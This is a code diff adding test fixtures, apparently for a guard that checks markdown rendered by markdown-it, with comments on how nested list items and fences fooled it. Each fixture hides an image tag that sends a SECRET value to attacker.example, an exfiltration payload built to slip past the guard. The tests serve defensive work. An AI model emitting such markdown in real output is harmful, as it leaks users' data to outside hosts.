@@ -142,6 +142,18 @@ FOUND = {
     "a fence after an HTML block that ended a list item": (
         "* star\n<table> a\n\t\n   ```\n```\n <pre>\n<img\n\n"
         "src='https://attacker.example/x?d=SECRET'>\n"),
+    # the guard kept only the innermost list item: `   ~~~` is a fence in the outer item (text
+    # two in) for markdown-it, which the `<pre>` at the margin ends with its item; read
+    # against the inner item (text five in) it was a fence at the margin that nothing closed,
+    # so the tag over a blank line in the `<pre>` block after it passed as code
+    "a fence in the outer of two nested list items": (
+        "- a\n\n  2. two\n]\n   ~~~\n\n<pre>\n<img\n\n"
+        "src='https://attacker.example/y?d=SECRET'>"),
+    # a heading ends the paragraph before it, so `2. two` after `#` opens an item for
+    # markdown-it, whose fence the `<pre>` at the margin ends; the guard read the paragraph
+    # as going on, the fence as at the margin, and the tag in the `<pre>` block as code
+    "a fence in a numbered item after a heading": (
+        "a\n#\n2. two\n   `````\n<pre>\n<img\n\nsrc='https://attacker.example/z?d=SECRET'>\n"),
     "a tag in an unended image in code": (
         "> a\n- \n  ```x\n![r](https://attacker.example/i\n[ <img\n"
         "src='https://attacker.example/e?d=SECRET'>\n"),
